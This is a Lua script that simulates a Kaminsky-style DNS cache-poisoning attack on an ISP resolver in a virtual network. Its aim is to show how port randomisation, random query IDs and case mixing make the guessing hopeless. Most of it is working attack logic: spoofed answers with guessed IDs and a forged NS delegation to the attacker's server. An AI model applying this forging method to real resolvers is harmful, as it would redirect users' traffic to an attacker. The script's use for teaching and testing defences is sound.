-- Cache poisoning: forged answers that only have to guess, and what makes guessing hopeless
--
-- Mallory asks the local server for r1.bank.com, r2.bank.com, … and each time sends it answers of his own at once, in
-- the name of bank's server, before the real one comes. They say that ns.bank.com is at mallory's address. What he
-- does not see he has to guess: the id of the question, 1 of 65536; the port it was sent from, if the server draws
-- one for each question; and the letters, if it mixes upper and lower case. One hit, and the server believes him
-- about the whole domain for a day.
local net, dns, socket, task = require "net", require "dns", require "socket", require "task"

local internet = net.router("internet")
local function host(name, delay)
  local h = net.host(name)
  net.link(h, internet, {delay = delay})
  return h
end
local bank, isp = host("ns.bank.com", "50 ms"), host("dns.isp.net", "5 ms")
local mallory, client = host("mallory", "5 ms"), host("client", "5 ms")
local root = host("root", "20 ms")

local function serve(h, origin, records)
  h:spawn(function() dns.serve{zones = {assert(dns.zone(records, {origin = origin}))}} end)
end
serve(root, ".", {"@ NS root.", "root. A " .. root:address(), "bank.com. NS ns.bank.com.",
  "ns.bank.com. A " .. bank:address(), "mallory.org. NS ns.mallory.org.", "ns.mallory.org. A " .. mallory:address()})
serve(bank, "bank.com", {"@ NS ns", "ns A " .. bank:address(), "www A 192.0.2.10"})

-- mallory's own server sees the id of each question, and answers for every name with his address
local seen = 0
mallory:spawn(function()
  local s = socket.udp()
  s:setsockname("*", 53)
  while true do
    local data, from, port = s:receivefrom()
    local m = dns.decode(data)
    seen, m.response, m.authoritative, m.edns = m.id, true, true, nil
    m.answer = {"@ 1 A " .. mallory:address()}
    s:sendto(dns.encode(m), from, port)
  end
end)

local recursor, number
isp:spawn(function() recursor = dns.recursor{roots = {"root"}} end):join()
local function ask(name, from) return (from or client):spawn(dns.query, name, "A", {server = "dns.isp.net"}) end

-- one attempt: true if the server took a forged answer
local function attempt(guesses, port, first)
  number = number + 1
  local name = ("r%d.bank.com"):format(number)
  local forged = dns.encode{response = true, authoritative = true, question = {{name = name}},
    answer = {"@ 86400 A " .. mallory:address()}, authority = {"bank.com. 86400 NS ns.mallory.org."}}
  local question = ask(name, mallory)
  task.sleep(0)
  for i = 1, guesses do
    local id = first and (first + i) % 65536 or math.random(0, 65535)
    net.inject(mallory, {protocol = "udp", source = bank:address(), source_port = 53, to = isp:address(),
      port = port or math.random(1024, 65535), data = string.char(math.floor(id / 256), id % 256) .. forged:sub(3)})
  end
  return select(2, question:join()).rcode == "NOERROR"
end
print("port    id       letters   chance of one attempt  attempts  forged  taken  www.bank.com then")
for _, c in ipairs{{count_ids = true, fixed_port = 5353, guesses = 5, most = 10},
  {fixed_port = 5353, guesses = 200, most = 2000}, {guesses = 200, most = 100},
  {fixed_port = 5353, mix_case = true, guesses = 200, most = 100}} do
  recursor:flush()
  recursor:set{fixed_port = c.fixed_port, count_ids = c.count_ids, mix_case = c.mix_case}
  ask("www.bank.com"):join()
  local taken
  number = 0
  while not taken and number < c.most do
    if c.count_ids then ask(number .. ".mallory.org"):join() end
    taken = attempt(c.guesses, c.fixed_port, c.count_ids and seen)
  end
  task.sleep(3600)
  local possible = 65536 * (c.fixed_port and 1 or 64512) * (c.mix_case and 2 ^ #("r.bank.com"):gsub("%A", "") or 1)
  print(("%-7s %-8s %-8s  %21s  %8d  %6d  %-5s  %s"):format(c.fixed_port and "fixed" or "drawn",
    c.count_ids and "counted" or "drawn", c.mix_case and "mixed" or "as asked",
    c.count_ids and "certain" or ("1 in %.0f"):format(possible / c.guesses), number, number * c.guesses,
    taken and "yes" or "no", select(2, ask("www.bank.com"):join()).answer[1].address))
end
print("mallory is " .. mallory:address())
